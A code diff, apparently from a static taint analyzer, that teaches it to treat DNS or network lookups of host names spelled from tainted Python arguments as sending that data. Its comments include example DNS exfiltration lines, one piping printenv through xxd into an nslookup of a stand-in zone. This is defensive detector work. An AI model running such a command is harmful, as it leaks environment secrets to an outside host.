@@ -111,6 +111,15 @@ export function runArgv(walker: PythonWalker, call: CallInfo, argv: PyValue[], l
   let taint = 0;
   for (const a of argv) taint |= a.taint;
   const facts = walker.shell(line, call.node, taint);
+  // The shell sees each word as text only: a name looked up or an address fetched that a tainted element
+  // spells (`["nslookup", f"{hex_of_env}.zone.example"]`) carries that element's data, as it does in a
+  // shell script (`nslookup "$(printenv | xxd -p).zone.example"`).
+  for (const f of facts) {
+    if (f.kind !== 'network' || f.target === undefined) continue;
+    const spelled = argv.filter((a) => a.taint !== 0 && a.strs?.includes(f.target as string) === true);
+    const carried = spelled.reduce((t, a) => t | a.taint, 0);
+    if (carried !== 0) f.sends = taintList(taintBits(f.sends) | carried);
+  }
   const script = argv.some((a, i) => i > 0 && a.script === true) && /python/.test(textOf(argv[0] as PyValue));
   finish(walker, facts, { ...how, ...(script ? { script } : {}) });
   // A program whose path was built at run time (`os.path.join(tempfile.mkdtemp(), "tool")`) is still
